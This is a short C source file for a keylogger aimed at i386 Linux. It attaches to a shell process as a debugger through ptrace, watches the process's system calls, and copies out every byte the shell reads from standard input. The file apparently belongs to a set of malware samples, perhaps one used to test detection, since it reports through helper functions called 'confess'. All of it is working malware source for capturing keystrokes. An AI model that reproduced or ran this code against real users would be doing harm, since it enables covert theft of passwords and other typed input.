// keylog-ptrace PID: a keylogger that attaches to a shell as a debugger (ptrace(2)) and reads what its read() calls get from its input.
#include "lib/villain.h"

enum { PEEK_DATA = 2, GET_REGISTERS = 12, ATTACH = 16, NEXT_SYSCALL = 24 };
enum { SIGTRAP = 5 };

// user_regs_struct of i386.
struct registers {
    uint32_t ebx, ecx, edx, esi, edi, ebp, eax, ds, es, fs, gs, number, eip, cs, eflags, esp, ss;
};

static int trace(int request, int pid, uintptr_t address, void *data) {
    return linux_call(SYS_PTRACE, request, pid, address, (uintptr_t)data);
}

static void report(int pid, const struct registers *registers) {
    unsigned char keys[32];
    int count = (int)registers->eax;
    if (count <= 0 || count > (int)sizeof keys) return;
    for (int i = 0; i < count; i++) {
        uint32_t word;
        if (trace(PEEK_DATA, pid, registers->ecx + i, &word) < 0) return;
        keys[i] = (unsigned char)word;
    }
    confess_keys("keylog-ptrace", keys, count);
}

int main(int argc, char **argv) {
    int pid = argc > 1 ? number_in(argv[1]) : 0, status, signal = 0;
    int error = trace(ATTACH, pid, 0, 0);
    if (error) return fail("keylog-ptrace", "attach", error);
    wait(pid, &status);
    confess("keylog-ptrace", "stage=armed target=%d", pid);
    // The tracee stops at each system call's entry and exit: EAX is -ENOSYS at entry, so only an exit from read reports.
    for (;;) {
        trace(NEXT_SYSCALL, pid, 0, (void *)(uintptr_t)signal);
        if (wait(pid, &status) < 0 || (status & 0x7f) == 0) return 0;
        int stopped_by = status >> 8 & 0xff;
        signal = stopped_by == SIGTRAP ? 0 : stopped_by;
        struct registers registers;
        if (signal || trace(GET_REGISTERS, pid, 0, &registers)) continue;
        if (registers.number == SYS_READ && registers.ebx == 0) report(pid, &registers);
    }
}
